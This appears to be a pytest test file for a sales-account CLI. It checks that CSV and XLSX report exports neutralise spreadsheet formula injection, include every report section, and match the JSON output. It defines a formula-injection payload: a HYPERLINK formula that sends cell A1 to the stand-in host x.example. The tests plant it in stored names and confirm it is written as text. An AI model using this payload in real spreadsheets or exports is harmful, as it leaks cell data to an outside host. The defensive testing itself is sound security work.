"""Reports out, safe and whole (issue 14, item 2): CSV a spreadsheet opens correctly,
with no cell it would run as a formula and no section left out, and XLSX workbooks
that hold what the JSON holds.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from collections.abc import Callable, Iterator
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from conftest import fake_clock, imported_by, personal_key
from hypothesis import given
from hypothesis import strategies as st

from kamflow.application import Kamflow
from kamflow.cli import cli
from kamflow.demo import build_demo
from kamflow.output import to_csv

TODAY = date(2026, 12, 1)
# What a spreadsheet runs as a formula when a cell starts with it (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("http://x.example/?"&A1,"Acme")'
Kam = Callable[..., Result]


def invoker(db: str, actor: str = "li.wei") -> Kam:
    def kam(*args: str, input: str | None = None) -> Result:
        return CliRunner().invoke(
            cli, ["--db", db, "--actor", actor, *args], input=input, catch_exceptions=False
        )

    return kam


def ok(result: Result) -> str:
    assert result.exit_code == 0, result.stderr
    return result.stdout


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def blocks(text: str) -> dict[str, list[list[str]]]:
    """A report's CSV as its tables: the first is "rows", each next one named by its
    "# name" line."""
    found: dict[str, list[list[str]]] = {}
    for i, block in enumerate(text.split("\n\n")):
        rows = cells(block)
        if i == 0:
            found["rows"] = rows
        else:
            assert rows[0][0].startswith("# "), block
            found[rows[0][0][2:]] = rows[1:]
    return found


def is_number(text: str) -> bool:
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text) is not None


# ------------------------------------------------------------------ the one writer
@given(
    start=st.sampled_from(FORMULA_STARTS),
    rest=st.text(st.characters(blacklist_categories=("Cs",)), max_size=20),
)
def test_a_text_cell_starting_a_formula_is_written_as_text(start: str, rest: str) -> None:
    text = start + rest

    written = to_csv(["name", "amount"], [[text, Decimal("-12.50")]])

    row = cells(written)[1]
    assert row[0].startswith("'")
    assert row[1] == "-12.50"  # a negative amount is a number, not a formula


def test_text_that_starts_no_formula_and_numbers_are_written_as_they_are() -> None:
    written = to_csv(["a", "b", "c", "d"], [["Acme =1", -3, Decimal("-0.5"), "'quoted"]])

    assert cells(written)[1] == ["Acme =1", "-3", "-0.5", "'quoted"]


# ------------------------------------------------------------------ every CSV command
# Text starting with each of FORMULA_STARTS in every kind of stored text: typed into
# placeholders, then put into the stored events as a store written by older code (or
# altered) could hold them, since the write side refuses tabs and carriage returns in
# one-line text.
def _marker(i: int) -> str:
    return f"XQ{i}"


def _lines(i: int) -> list[dict[str, Any]]:
    m, key = _marker(i), f"inj{i}"
    return [
        {"command": "account open", "account": key, "name": f"{m}{PAYLOAD}",
         "industry": f"{m}industry", "owner": f"{m}owner", "tier": "key",
         "on": "2026-10-01", "command_id": f"{m}open"},
        {"command": "contact add", "account": key, "contact": f"{m}person",
         "title": f"{m}title", "department": f"{m}dept", "roles": ["decider"],
         "on": "2026-10-01"},
        {"command": "visit log", "account": key, "with": [f"{m}person"],
         "purpose": f"{m}purpose", "objective": f"{m}objective", "result": f"{m}result",
         "issues": [f"{m}issue"], "on": "2026-10-02"},
        {"command": "complaint raise", "account": key, "summary": f"{m}summary",
         "severity": "high", "on": "2026-10-03"},
        {"command": "opp open", "account": key, "title": f"{m}opportunity",
         "decision_maker": f"{m}decides", "timeline": f"{m}timeline", "on": "2026-10-04"},
        # A sale at a loss: its negative margin and profit must stay numbers.
        {"command": "sale record", "account": key, "invoice": f"INV-{i}", "product": f"{m}pr",
         "amount": "100.00", "cost": "150.00", "on": "2026-10-05"},
        {"command": "satisfaction record", "account": key, "score": 5, "target": 8,
         "note": f"{m}note", "on": "2026-10-06"},
        {"command": "roster grant", "person": f"{m}boss", "role": "auditor",
         "reason": f"{m}reason"},
        {"command": "policy set", "policy": POLICIES[i], "value": "41", "reason": f"{m}why"},
    ]  # fmt: skip


# One policy set by each actor: policy show names its last setter.
POLICIES = (
    *(f"contact-cadence-days.{tier}" for tier in ("prospect", "target", "key", "strategic")),
    "complaint-sla-days.prospect",
    "complaint-sla-days.target",
)


@pytest.fixture(scope="module")
def injected(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    db = str(tmp_path_factory.mktemp("injection") / "k.db")
    with fake_clock(TODAY):
        # li.wei, the first writer and so the admin, lets each actor do what its lines do.
        # Each with their key (ADR 0025), made in the session's config folder.
        team = [
            {"command": "roster grant", "person": f"{_marker(i)}actor", "role": role,
             "reason": "team", "key": personal_key(f"{_marker(i)}actor")}
            for i in range(len(FORMULA_STARTS))
            for role in ("kam", "admin")
        ]  # fmt: skip
        ok(invoker(db)("apply", "-", input="\n".join(json.dumps(t) for t in team)))
        for i in range(len(FORMULA_STARTS)):
            lines = "\n".join(json.dumps(line) for line in _lines(i))
            ok(invoker(db, actor=f"{_marker(i)}actor")("apply", "-", input=lines))
        # An account key may itself start with "-".
        dash = [{"command": "account open", "account": "-dash", "name": "Dash", "industry": "x",
                 "owner": "li.wei", "on": "2026-10-01"},
                {"command": "complaint raise", "account": "-dash", "summary": "late",
                 "severity": "low", "on": "2026-10-02"}]  # fmt: skip
        ok(invoker(db)("apply", "-", input="\n".join(json.dumps(d) for d in dash)))
    with sqlite3.connect(db) as conn:
        for rowid, state in conn.execute("SELECT rowid, state FROM stored_events").fetchall():
            for i, start in enumerate(FORMULA_STARTS):
                state = state.replace(_marker(i).encode(), json.dumps(start)[1:-1].encode())
            conn.execute("UPDATE stored_events SET state=? WHERE rowid=?", (state, rowid))
        # Governance has enough events for a snapshot, taken before the edit: a snapshot
        # is only a cache, so drop it and let roster show replay the edited events.
        conn.execute("DELETE FROM stored_snapshots")
    with fake_clock(TODAY):
        ok(invoker(db)("projections", "rebuild"))
        yield db


# Every command that writes CSV, and the starts of text its cells can show: none where
# it shows no stored text; only "-" where that is only an account key.
def csv_commands() -> list[tuple[tuple[str, ...], tuple[str, ...]]]:
    every = FORMULA_STARTS
    found: list[tuple[tuple[str, ...], tuple[str, ...]]] = [
        (("account", "list"), every),
        (("policy", "show"), every),
        (("roster", "show"), every),
        (("workflow", "list"), ()),
        (("projections", "status"), ()),
        (("report", "portfolio"), every),
        (("report", "complaints"), ("-",)),
        (("report", "cadence"), every),
        (("report", "buying-centre"), every),
        (("report", "funnel"), every),
        (("report", "satisfaction"), every),
        (("report", "principles"), ("-",)),
        (("report", "audit"), every),
    ]
    for i, start in enumerate(every):
        found.append((("account", "history", f"inj{i}"), (start,)))
        found.append((("report", "file", f"inj{i}"), (start,)))
    return found


CASES = csv_commands()


@pytest.mark.parametrize(("args", "starts"), CASES, ids=[" ".join(a) for a, _ in CASES])
def test_no_csv_cell_of_any_command_starts_a_formula(
    injected: str, args: tuple[str, ...], starts: tuple[str, ...]
) -> None:
    with fake_clock(TODAY):
        text = ok(invoker(injected)(*args, "--csv"))

    table = cells(text)
    unsafe = [c for row in table for c in row if c[:1] in FORMULA_STARTS and not is_number(c)]
    assert unsafe == []
    # The stored text is there, whole, behind its apostrophe (a carriage return shown
    # escaped, as every control character is in CSV).
    shown = {c[1:2] if c[1:3] != "\\r" else "\r" for row in table for c in row if c[:1] == "'"}
    assert set(starts) <= shown, (set(starts) - shown, text[:2000])


def test_a_loss_in_csv_is_a_negative_number(injected: str) -> None:
    with fake_clock(TODAY):
        text = ok(invoker(injected)("report", "portfolio", "--csv", "--section", "rows"))

    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["real_profit"] for r in rows if r["key"].startswith("inj")} == {"-50.00"}


def test_a_formula_in_a_name_is_text_in_xlsx(injected: str, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = tmp_path / "accounts.xlsx"
    with fake_clock(TODAY):
        ok(invoker(injected)("account", "list", "--xlsx", str(path)))

    sheet = load_workbook(path)["rows"]
    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert names["inj0"].value == f"={PAYLOAD}"
    assert names["inj0"].data_type == "s"  # a string, not a formula ("f")
    assert names["inj3"].value == f"@{PAYLOAD}"


# ------------------------------------------------------------------ the demo
@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    db = str(tmp_path_factory.mktemp("demo") / "demo.db")
    kamflow = Kamflow(db, tz="Asia/Shanghai")
    try:
        build_demo(kamflow, accounts=12, seed=7, today=TODAY)
    finally:
        kamflow.close()
    with fake_clock(TODAY):
        yield db


def test_excel_csv_starts_with_the_byte_order_mark_and_plain_csv_does_not(demo: str) -> None:
    kam = invoker(demo)

    plain = kam("report", "portfolio", "--csv").stdout_bytes
    excel = kam("report", "portfolio", "--excel").stdout_bytes

    assert not plain.startswith(b"\xef\xbb\xbf")
    assert excel.startswith(b"\xef\xbb\xbf")
    # Decoded as Excel decodes a file with the mark: the Chinese names are whole.
    assert excel.decode("utf-8-sig") == plain.decode("utf-8")
    assert "万华化学" in excel.decode("utf-8-sig")


def test_csv_written_to_a_file_starts_with_the_byte_order_mark(demo: str, tmp_path: Path) -> None:
    path = tmp_path / "portfolio.csv"

    result = invoker(demo)("report", "portfolio", "--out", str(path))

    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith(f"wrote {path}: rows (12), summary (")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == invoker(demo)("report", "portfolio", "--csv").stdout


def test_a_file_that_cannot_be_written_is_one_line_and_leaves_nothing(
    demo: str, tmp_path: Path
) -> None:
    missing = tmp_path / "no such folder" / "p.csv"

    result = invoker(demo)("report", "portfolio", "--out", str(missing))

    assert result.exit_code == 1
    assert result.stderr.startswith("Error: Could not open file")
    assert result.stderr.count("\n") == 1
    assert not missing.parent.exists()


def test_cadence_csv_keeps_its_open_follow_ups(demo: str) -> None:
    kam = invoker(demo)
    data = json.loads(ok(kam("report", "cadence", "--json")))

    found = blocks(ok(kam("report", "cadence", "--csv")))

    assert list(found) == ["rows", "summary", "open_follow_ups"]
    follow_ups = found["open_follow_ups"]
    assert follow_ups[0] == list(data["open_follow_ups"][0])
    assert [r[1] for r in follow_ups[1:]] == [f["issue_id"] for f in data["open_follow_ups"]]
    assert len(data["open_follow_ups"]) > 0
    assert ["open_follow_ups", str(len(data["open_follow_ups"]))] in found["summary"]


def test_every_section_of_every_report_is_in_its_csv(demo: str) -> None:
    kam = invoker(demo)
    for name in ("portfolio", "complaints", "cadence", "buying-centre", "funnel",
                 "satisfaction", "principles", "audit"):  # fmt: skip
        data = json.loads(ok(kam("report", name, "--json")))

        found = blocks(ok(kam("report", name, "--csv")))

        assert list(found) == [k for k in data if k != "report"], name
        # The audit trail has a line per changed field of each event; the others, one per row.
        lines = (
            sum(max(1, len(r["changes"])) for r in data["rows"])
            if name == "audit"
            else len(data["rows"])
        )
        assert len(found["rows"]) == lines + 1, name


def test_one_section_alone_is_a_plain_csv(demo: str) -> None:
    kam = invoker(demo)
    data = json.loads(ok(kam("report", "cadence", "--json")))

    text = ok(kam("report", "cadence", "--csv", "--section", "open_follow_ups"))

    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["issue_id"] for r in rows] == [f["issue_id"] for f in data["open_follow_ups"]]
    assert [int(r["age_days"]) for r in rows] == [f["age_days"] for f in data["open_follow_ups"]]


def test_an_unknown_section_is_refused_naming_the_ones_there_are(demo: str) -> None:
    result = invoker(demo)("report", "cadence", "--csv", "--section", "nope")

    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == (
        'Error: no table "nope" in this report; one of: rows, summary, open_follow_ups\n'
    )


def test_section_without_csv_and_two_formats_are_refused_before_the_read(demo: str) -> None:
    kam = invoker(demo)

    alone = kam("report", "cadence", "--section", "summary")
    both = kam("report", "cadence", "--json", "--xlsx", "x.xlsx")

    assert (alone.exit_code, alone.stderr) == (
        2,
        "Error: --section picks one table of the CSV; give --csv too\n",
    )
    # (with --json among the words, the error is JSON too)
    assert (both.exit_code, json.loads(both.stderr)["error"]["message"]) == (
        2,
        "give --json or --xlsx, not both",
    )


def test_the_customer_file_in_csv_is_its_people_then_every_section(demo: str) -> None:
    kam = invoker(demo)
    data = json.loads(ok(kam("report", "file", "wanhua", "--json")))

    found = blocks(ok(kam("report", "file", "wanhua", "--csv")))

    assert list(found) == [k for k in data if k != "report"]
    assert found["rows"][0][:2] == ["contact_id", "name"]
    assert ["name", "万华化学 Wanhua"] in found["profile"]
    assert len(found["visits"]) == len(data["visits"]) + 1


# ------------------------------------------------------------------ XLSX
def _flatten(mapping: dict[str, Any], prefix: str = "") -> list[list[Any]]:
    out: list[list[Any]] = []
    for k, v in mapping.items():
        if isinstance(v, dict):
            out += _flatten(v, f"{prefix}{k}.")
        else:
            out.append([f"{prefix}{k}", v])
    return out


AUDIT_COLUMNS = ["position", "key", "version", "type", "actor", "delegate", "occurred_on",
                 "recorded_at", "command_id", "summary"]  # fmt: skip
CHANGE_COLUMNS = ["subject", "field", "old", "new", "old_source"]


def _audit_lines(rows: list[dict[str, Any]]) -> tuple[list[str], list[list[Any]]]:
    """The audit trail as spreadsheets hold it: one line per changed field of each
    event (an event that changed nothing, one line), its change in five columns."""
    lines = []
    for row in rows:
        for change in row["changes"] or [{}]:
            lines.append([row[c] for c in AUDIT_COLUMNS] + [change.get(c) for c in CHANGE_COLUMNS])
    return AUDIT_COLUMNS + CHANGE_COLUMNS, lines


def _expected_tables(data: dict[str, Any]) -> dict[str, tuple[list[str], list[list[Any]]]]:
    """The JSON of a report as the tables its workbook must hold."""
    found: dict[str, tuple[list[str], list[list[Any]]]] = {}
    for name, value in data.items():
        if name == "report":
            continue
        if name == "rows" and data["report"].startswith("audit trail"):
            found[name] = _audit_lines(value)
            continue
        if isinstance(value, dict):
            found[name] = (["field", "value"], _flatten(value))
        elif isinstance(value, list) and value and isinstance(value[0], dict):
            headers = list(dict.fromkeys(k for item in value for k in item))
            found[name] = (headers, [[item.get(h) for h in headers] for item in value])
        elif isinstance(value, list):
            found[name] = ([name] if value else [], [[v] for v in value])
        else:
            found[name] = ([name], [[value]])
    return found


def _text(expected: Any, got: Any) -> bool:
    """An audit change's old or new value: text, whatever it looks like (`50000`); a
    list (roles) as its items joined."""
    if isinstance(expected, list):
        expected = ", ".join(map(str, expected))
    return got is None if expected in (None, "") else got == str(expected)


def _same(expected: Any, got: Any) -> bool:
    """A JSON value and the cell that holds it, with the type the JSON means."""
    if expected is None or expected == [] or expected == "":
        return got is None
    if isinstance(expected, bool):
        return got is expected
    if isinstance(expected, int):
        return type(got) is int and got == expected
    if isinstance(expected, list):
        return got == ", ".join(str(v) for v in expected)
    assert isinstance(expected, str)
    if re.fullmatch(r"[0-9]{4}-[0-9]{2}-[0-9]{2}", expected):
        return isinstance(got, datetime) and got.date().isoformat() == expected
    if is_number(expected):  # a Decimal, which JSON writes as a string
        return isinstance(got, int | float) and Decimal(expected) == Decimal(repr(got))
    return isinstance(got, str) and got == expected


@pytest.mark.parametrize(
    "args",
    [("portfolio",), ("cadence",), ("funnel",), ("principles",), ("audit",), ("complaints",),
     ("buying-centre",), ("satisfaction",), ("file", "wanhua")],
    ids=lambda a: a[0],
)  # fmt: skip
def test_the_workbook_holds_what_the_json_holds(
    demo: str, tmp_path: Path, args: tuple[str, ...]
) -> None:
    from openpyxl import load_workbook

    kam = invoker(demo)
    data = json.loads(ok(kam("report", *args, "--json")))
    path = tmp_path / "report.xlsx"

    result = kam("report", *args, "--xlsx", str(path))

    assert result.exit_code == 0, result.stderr
    book = load_workbook(path)
    expected = _expected_tables(data)
    assert book.sheetnames == list(expected)
    for name, (headers, rows) in expected.items():
        sheet = book[name]
        got = [list(r) for r in sheet.iter_rows(values_only=True)]
        if not headers:
            assert got == [] or got == [[None]], name
            continue
        assert list(got[0]) == headers, name
        assert sheet.freeze_panes == "A2", name
        assert len(got) - 1 == len(rows), name
        for r, (want, have) in enumerate(zip(rows, got[1:], strict=True)):
            wrong = [
                (h, w, g)
                for h, w, g in zip(headers, want, have, strict=True)
                if not (_text(w, g) if h in CHANGE_COLUMNS else _same(w, g))
            ]
            assert wrong == [], (name, r, wrong)


def test_the_workbook_shows_money_with_two_decimals_and_fits_its_columns(
    demo: str, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    path = tmp_path / "p.xlsx"
    ok(invoker(demo)("report", "portfolio", "--xlsx", str(path)))

    sheet = load_workbook(path)["rows"]
    header = [c.value for c in sheet[1]]
    revenue = sheet.cell(row=2, column=header.index("revenue") + 1)
    name = header.index("name") + 1
    assert revenue.number_format == "#,##0.00"
    assert sheet.cell(row=1, column=1).font.bold
    # Chinese names count double: the name column is wider than its longest name's length.
    longest = max(len(str(sheet.cell(row=r, column=name).value)) for r in range(2, 14))
    assert sheet.column_dimensions["B"].width > longest


# ------------------------------------------------------------------ start-up
def _imports(tmp_path: Path, *args: str) -> bool:
    return "openpyxl" in imported_by(tmp_path, *args)


@pytest.mark.slow
def test_only_the_command_that_writes_a_workbook_imports_the_xlsx_library(
    demo: str, tmp_path: Path
) -> None:
    db = str(tmp_path / "k.db")
    write = ["--db", db, "account", "open", "acme", "--name", "A", "--industry", "f",
             "--owner", "li"]  # fmt: skip

    assert not _imports(tmp_path, "--help")
    assert not _imports(tmp_path, *write)
    assert not _imports(tmp_path, "--db", demo, "report", "portfolio", "--csv")
    assert _imports(tmp_path, "--db", demo, "report", "portfolio", "--xlsx", "p.xlsx")
